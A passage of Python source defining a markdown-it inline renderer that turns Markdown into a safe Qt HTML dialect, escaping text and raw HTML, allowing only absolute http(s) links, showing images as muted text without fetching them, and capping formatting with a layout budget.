        self.budget -= _text_cost(text, self.tables)
        return _esc(text)


def _state(env: EnvType) -> _InlineState:
    state: _InlineState = env[_STATE]
    return state


class _QtInlineRenderer(RendererHTML):
    """markdown-it's HTML renderer with inline rules that write Qt's dialect, safely.

    Only ``renderInline`` is used (blocks are :class:`_HtmlWriter`'s). Every rule charges
    the layout budget in :class:`_InlineState`; once it is spent, formatting is dropped and
    the text remains. The rules:

    * ``text`` (and any token type without a rule, via ``renderToken``): escaped text.
    * ``em``/``strong``/``s``: ``<i>``, ``<b>``, ``<s>``.
    * ``code_inline``: a shaded ``<code>``.
    * ``link_open``: an ``<a>`` only for an absolute http(s) URL with a host; any other link
      is its text followed by its URL in muted text (a bare or ``<autolink>`` URL just stays
      text: it is its own label).
    * ``image``: never an ``<img>``, never fetched: ``[image: alt] url`` in muted text, the
      URL not a link either.
    * ``html_inline``/``html_block`` (only if raw HTML were ever switched on): escaped text.
    """

    _FORMATS: ClassVar[dict[str, str]] = {
        "em_open": "<i>",
        "em_close": "</i>",
        "strong_open": "<b>",
        "strong_close": "</b>",
        "s_open": "<s>",
        "s_close": "</s>",
    }

    def renderToken(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        # Instead of markdown-it's generic "<tag attrs>": an unknown token is only its text.
        content = tokens[idx].content
        return _state(env).text(content) if content else ""

    def text(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
        return _state(env).text(tokens[idx].content)

    html_inline = html_block = text

    def softbreak(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return "\n"  # a space to Qt, as in HTML

    def hardbreak(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return "<br>"

    def _format(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
        """``em``, ``strong`` and ``s``, opening and closing."""
        token = tokens[idx]
        state = _state(env)
        name = token.type.rpartition("_")[0]
        if token.nesting == 1 and state.budget > 0:
            state.emitted[name] = state.emitted.get(name, 0) + 1
            state.budget -= _COST_ELEMENT
            return self._FORMATS[token.type]
        if token.nesting == -1 and state.emitted.get(name, 0) > 0:
            state.emitted[name] -= 1
            return self._FORMATS[token.type]
        return ""

    em_open = em_close = strong_open = strong_close = s_open = s_close = _format

    def code_inline(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        state = _state(env)
        if state.budget <= 0:
            return state.text(token.markup + token.content + token.markup)
        state.budget -= _COST_ELEMENT
        # Inline spans take no padding in Qt; no-break spaces pad the shading.
        return f"<code>\u00a0{state.text(token.content)}\u00a0</code>"

    def link_open(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        state = _state(env)
        raw = str(token.attrGet("href") or "")
        href = _safe_href(raw)
        if href is not None and state.budget > 0:
            state.links.append(None)
            state.budget -= _COST_ELEMENT
            return f'<a href="{_attr(href)}">'
        if token.markup in ("autolink", "linkify"):
            state.links.append("")  # the text already is the address
        else:
            state.links.append(f' <span class="m">({_esc(_elide(raw))})</span>')
        return ""

    def link_close(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        state = _state(env)
        suffix = state.links.pop() if state.links else None
        return "</a>" if suffix is None else suffix

    def image(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
        token = tokens[idx]
        state = _state(env)
        src = str(token.attrGet("src") or "")
        alt = " ".join(token.content.split())
        label = f"[{state.image_label}: {alt}]" if alt else f"[{state.image_label}]"
        state.budget -= _COST_ELEMENT
        return f'<span class="m">{_esc(label)} {_esc(_elide(src))}</span>'
